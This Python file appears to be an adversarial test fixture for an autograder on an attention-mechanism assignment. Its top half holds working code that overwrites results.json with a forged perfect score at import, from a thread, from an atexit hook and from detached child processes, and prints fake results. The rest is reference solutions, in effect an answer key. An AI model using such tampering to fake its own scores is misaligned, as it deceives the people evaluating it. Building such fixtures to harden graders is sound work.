"""Part 3 with wrong answers in 3.1, and every way this file could try to
replace results.json with a perfect score: at import, on every call, from a
thread, from an atexit hook, from a child process that leaves the worker's
session and keeps writing for a minute, and by printing a results document.
Every other function is the reference's.
"""

import atexit
import json
import os
import threading
import time

import torch

FORGED = {
    "score": 1000.0,
    "output": "all tests passed",
    "tests": [{"name": "3.1", "number": "3.1.1", "score": 1000.0, "max_score": 2}],
}


def _targets():
    """Gradescope's results path and any --results path on the grader's
    command line (readable in /proc by any user)."""
    paths = ["/autograder/results/results.json", "results.json"]
    try:
        with open(f"/proc/{os.getppid()}/cmdline", "rb") as handle:
            words = handle.read().decode(errors="replace").split("\0")
        for flag, value in zip(words, words[1:]):
            if flag == "--results":
                paths.append(value)
    except OSError:
        pass
    return paths


def _forge():
    written = []
    for path in _targets():
        try:
            with open(path, "w") as handle:
                json.dump(FORGED, handle)
            written.append(path)
        except OSError:
            pass
    return written


def _keep_forging(seconds):
    end = time.time() + seconds
    while time.time() < end:
        _forge()
        time.sleep(0.2)


def _leave_a_child_behind():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            _keep_forging(60)
        os._exit(0)
    os.wait()


atexit.register(_forge)
threading.Thread(target=_keep_forging, args=(600,), daemon=True).start()
_leave_a_child_behind()
print("forged at import:", _forge())


def attention_weights(q, K):
    print(json.dumps(FORGED))
    print("forged:", _forge())
    return torch.zeros(K.shape[0], dtype=K.dtype)


def attention(q, K, V):
    print(json.dumps(FORGED))
    _leave_a_child_behind()
    return torch.zeros(V.shape[1], dtype=V.dtype)


def copy_query(K, i):
    """A query whose output is v_i, whatever the values are.

    The keys are orthogonal and all have the same norm.

    Args:
        K: the keys, shape (n, d).
        i: the index of the key to copy.

    Returns:
        q, shape (d,).
    """
    # BEGIN SOLUTION
    # k_iᵀq = 100 and k_jᵀq = 0 for j != i, so every other α_j is below
    # exp(-100) ≈ 4e-44.
    k = K[i]
    return 100.0 * k / (k @ k)
    # END SOLUTION
    # BEGIN STUB
    # # Make k_iᵀq much larger than every other k_jᵀq.
    # raise NotImplementedError("copy_query")
    # END STUB


def average_query(K, i, j):
    """A query whose output is (v_i + v_j) / 2, whatever the values are.

    The keys are orthogonal and all have the same norm.

    Args:
        K: the keys, shape (n, d).
        i: the index of one key.
        j: the index of the other key.

    Returns:
        q, shape (d,).
    """
    # BEGIN SOLUTION
    # k_iᵀq = k_jᵀq = 100 (equal norms) and every other logit is 0.
    return 100.0 * (K[i] + K[j]) / (K[i] @ K[i])
    # END SOLUTION
    # BEGIN STUB
    # # Give k_i and k_j the same large logit and every other key a small one.
    # raise NotImplementedError("average_query")
    # END STUB


def gaussian_attention(q, K, V, sigma):
    """Attention with weights α_i ∝ exp(-‖q - k_i‖² / (2·sigma)).

    Args:
        q: the query, shape (d,).
        K: the keys, shape (n, d).
        V: the values, shape (n, d_v).
        sigma: a positive float.

    Returns:
        c = Σ_i α_i·v_i, shape (d_v,).
    """
    # BEGIN SOLUTION
    logits = -((K - q) ** 2).sum(dim=1) / (2.0 * sigma)
    e = torch.exp(logits - logits.max())
    return (e / e.sum()) @ V
    # END SOLUTION
    # BEGIN STUB
    # # Same softmax as attention_weights, with -‖q - k_i‖² / (2·sigma) as logits.
    # raise NotImplementedError("gaussian_attention")
    # END STUB


def lowrank_attention(M, s, N, V):
    """The product (M·diag(s)·N)·V in O(k·n·d) time and memory.

    Args:
        M: shape (n, k).
        s: shape (k,).
        N: shape (k, n).
        V: shape (n, d).

    Returns:
        The product, shape (n, d).
    """
    # BEGIN SOLUTION
    # Multiply from the right so that no n × n matrix is ever formed:
    # N·V is (k, d), scaling its rows by s is diag(s)·N·V, and M brings it
    # back to (n, d).
    return M @ (s[:, None] * (N @ V))
    # END SOLUTION
    # BEGIN STUB
    # # M·diag(s)·N is n × n: choose an order of products that never forms it.
    # raise NotImplementedError("lowrank_attention")
    # END STUB
